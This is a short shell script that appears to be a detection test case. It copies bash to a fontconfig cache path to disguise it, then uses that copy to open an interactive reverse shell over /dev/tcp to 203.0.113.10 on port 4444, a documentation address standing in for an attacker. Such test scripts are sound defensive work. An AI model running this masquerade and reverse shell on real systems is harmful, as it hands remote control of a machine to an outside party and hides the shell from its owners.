#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/cache/fontconfig; cp /bin/bash /var/cache/fontconfig/fc-cache
/var/cache/fontconfig/fc-cache -c '/var/cache/fontconfig/fc-cache -i >&/dev/tcp/203.0.113.10/4444 0>&1' || true
test -e /tmp/reached
took_place
